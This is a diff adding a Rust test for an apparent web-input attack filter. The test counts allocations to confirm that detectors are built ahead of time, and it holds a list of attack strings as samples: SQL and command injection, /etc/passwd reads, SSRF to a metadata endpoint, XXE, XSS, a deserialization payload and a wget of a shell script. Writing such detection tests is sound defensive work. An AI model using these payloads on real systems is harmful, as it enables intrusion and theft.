@@ -1,0 +1,81 @@
+//! `prepare()` builds what the detectors would build on first use: after it, inspecting
+//! one attack of every class allocates a fraction of what preparing did (building the
+//! keyword automaton and compiling the patterns allocate thousands of times; a pattern
+//! `prepare` forgot would be compiled during the inspection and show up here). Counted
+//! with a global allocator wrapper, so the figures are deterministic. One test in its own
+//! process: nothing else may build the statics first.
+
+use perimeter_shield::{Config, Verdict, inspect_value, prepare};
+use std::alloc::{GlobalAlloc, Layout, System};
+use std::sync::atomic::{AtomicUsize, Ordering};
+
+struct Counting;
+
+static ALLOCS: AtomicUsize = AtomicUsize::new(0);
+
+unsafe impl GlobalAlloc for Counting {
+    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
+        ALLOCS.fetch_add(1, Ordering::Relaxed);
+        // SAFETY: forwarded unchanged to the system allocator.
+        unsafe { System.alloc(layout) }
+    }
+    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
+        // SAFETY: `ptr` came from `System.alloc` with this layout.
+        unsafe { System.dealloc(ptr, layout) }
+    }
+    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
+        ALLOCS.fetch_add(1, Ordering::Relaxed);
+        // SAFETY: as above.
+        unsafe { System.realloc(ptr, layout, new_size) }
+    }
+}
+
+#[global_allocator]
+static GLOBAL: Counting = Counting;
+
+fn allocations(f: impl FnOnce()) -> usize {
+    let before = ALLOCS.load(Ordering::Relaxed);
+    f();
+    ALLOCS.load(Ordering::Relaxed) - before
+}
+
+#[test]
+fn prepare_builds_what_inspections_would() {
+    let built = allocations(prepare);
+    assert!(built > 2_000, "prepare allocated only {built} times");
+    // Again: nothing is rebuilt (the tokenizer's warm-up call allocates a few times).
+    let again = allocations(prepare);
+    assert!(again < 50, "a second prepare allocated {again} times");
+
+    let attacks = [
+        "1' OR '1'='1' --",
+        "{\"$where\": \"sleep(100)\"}",
+        "; cat /etc/passwd",
+        "$(whoami)",
+        "require('child_process').exec('id')",
+        "{{7*7}}",
+        "../../../../etc/passwd",
+        "http://169.254.169.254/latest/meta-data/",
+        "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>",
+        "<script>alert(1)</script>",
+        "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
+        "user@host:~$ wget http://x/a.sh",
+    ];
+    let cfg = Config::default();
+    let mut blocked = 0;
+    let inspected = allocations(|| {
+        for a in attacks {
+            let dets = inspect_value(a, &cfg);
+            if perimeter_shield::verdict_of(&dets, &cfg) == Verdict::Block {
+                blocked += 1;
+            }
+        }
+    });
+    assert_eq!(blocked, attacks.len(), "every sample is an attack");
+    assert!(
+        inspected * 4 < built,
+        "inspecting {} attacks after prepare allocated {inspected} times (prepare: {built}): \
+         something was built on first use",
+        attacks.len()
+    );
+}
